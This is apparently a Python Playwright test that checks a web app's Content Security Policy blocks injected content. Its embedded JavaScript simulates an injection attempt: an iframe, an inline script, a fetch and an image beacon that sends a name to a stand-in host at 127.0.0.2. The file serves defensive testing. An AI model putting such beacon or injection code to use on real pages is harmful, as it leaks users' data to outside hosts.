"""In a real browser the policy of the pages lets the desk work, and nothing be fetched from or sent to anywhere else."""

from __future__ import annotations

from playwright.sync_api import Page

from tests.browser.conftest import DeskServer

# What somebody who got a script or a picture into a page would try.
TRIES = """async () => {
    const policy = []
    document.addEventListener("securitypolicyviolation", event => policy.push(event.effectiveDirective))
    const frame = document.createElement("iframe")
    frame.src = "http://127.0.0.2:9/"
    const picture = document.createElement("img")
    picture.src = "http://127.0.0.2:9/beacon?name=Jane"
    const script = document.createElement("script")
    script.textContent = "window.ranInPlace = true"
    document.body.append(frame, picture, script)
    await fetch("http://127.0.0.2:9/").catch(() => {})
    await new Promise(done => setTimeout(done, 300))
    return {refused: [...new Set(policy)].sort(), ranInPlace: window.ranInPlace === true}
}"""


def test_the_desk_works_under_its_policy_and_nothing_else_does(browser_page: Page, desk_server: DeskServer) -> None:
    refused: list[str] = []
    browser_page.on(
        "console", lambda said: refused.append(said.text) if "Content Security Policy" in said.text else None
    )
    url = desk_server("sqlite").url
    for page, shows in (
        ("", "Connect a provider"),
        ("baseline_vs_current", "Baseline and current"),
        ("desk", "Clients"),
    ):
        browser_page.goto(f"{url}/{page}")
        browser_page.get_by_text(shows).first.wait_for()
    assert refused == []
    said = browser_page.evaluate(TRIES)
    assert said["refused"] == ["connect-src", "frame-src", "img-src", "script-src-elem"]
    assert not said["ranInPlace"]
